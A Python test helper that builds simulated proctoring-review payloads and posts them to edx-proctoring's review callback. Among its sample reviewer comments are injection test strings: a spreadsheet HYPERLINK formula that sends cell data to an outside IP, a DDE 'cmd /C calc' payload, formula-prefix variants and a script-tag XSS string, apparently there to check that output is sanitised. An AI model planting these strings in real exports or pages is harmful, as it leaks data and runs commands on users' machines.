"""Reviews, as Software Secure sends them: payloads posted to edx-proctoring's callback."""

import json
from contextvars import Context
from http import HTTPStatus

from django.conf import settings
from django.test import Client
from django.urls import reverse

CLEAN = "Clean"
VIOLATION = "Rules Violation"
SUSPICIOUS = "Suspicious"
NOT_REVIEWED = "Not Reviewed"

#: The account whose reviews may reject an attempt at once.
REVIEWER = "instructor@example.com"

COMMENTS = (
    "Music is playing in the background.",
    "Learner leaves the desk; returns after 40 seconds; leaves again.",
    "Second person in the room.\nThey talk.\nThe learner looks at them.",
    "Windows line ends,\r\nand a tab:\tthere.",
    'Learner says "just a moment", then reads from a phone.',
    "Notes on the wall, a book, and a calculator",
    '=HYPERLINK("http://203.0.113.7/?q="&A1,"details")',
    "+1 person at the door",
    "-1 monitor: the second one was switched off",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1＋1 in full-width forms",  # noqa: RUF001
    "  =1+1 behind two blanks",
    "\t=1+1 behind a tab",
    '<script>alert("review")</script> and <b>bold</b> &amp; an entity',
    "Phone on the desk 📱, learner nods 👍🏽, family of 👨‍👩‍👧",
    "Looks left often – “reading”; no one seen…",  # noqa: RUF001
    "受験者が席を離れた。",
    "Посторонний голос; окно открыто",
    "المتقدم ينظر إلى الهاتف",
    "המועמד מדבר עם מישהו",
    "",
    "ID card not shown; face not fully visible; room scan skipped",
)


#: After this many comments, their places in the recording repeat.
PLACES = 50


def comment(number, status):
    """Return one incident of a payload: a comment with its kind and place in the recording, in seconds."""
    start = 60 * (number % PLACES)
    return {
        "comments": COMMENTS[number % len(COMMENTS)],
        "duration": 30,
        "eventFinish": start + 30,
        "eventStart": start,
        "eventStatus": status,
    }


def payload(attempt, review_status, comments=(), reviewed_by=None):
    """Return what Software Secure sends about an attempt (a model instance)."""
    content = {
        "examDate": "Oct 12 2026 10:30AM",
        "examProcessingStatus": "Review Completed",
        "examApiData": {"duration": 90, "examCode": attempt.attempt_code, "ssiProduct": "rp-now"},
        "overAllComments": "",
        "reviewStatus": review_status,
        "examMetaData": {
            "examCode": attempt.attempt_code,
            "reviewedExam": "True",
            "simulatedExam": "False",
            "ssiProduct": "rp-now",
            "ssiRecordLocator": attempt.external_id,
        },
        "desktopComments": list(comments[::2]),
        "webCamComments": list(comments[1::2]),
    }
    return content | ({"reviewed_by": reviewed_by} if reviewed_by else {})


def post(attempt, review_status, comments=(), reviewed_by=None):
    """Send a review of an attempt to the callback; RuntimeError if the callback refuses it."""
    # A page may call this. Middleware keeps the page's request in the context, so this request needs its own context.
    response = Context().run(
        Client(SERVER_NAME=settings.ALLOWED_HOSTS[0]).post,
        reverse("edx_proctoring:anonymous.proctoring_review_callback"),
        json.dumps(payload(attempt, review_status, comments, reviewed_by)),
        content_type="application/json",
    )
    if response.status_code != HTTPStatus.OK:
        raise RuntimeError(f"The review callback answered {response.status_code}: {response.content!r}")
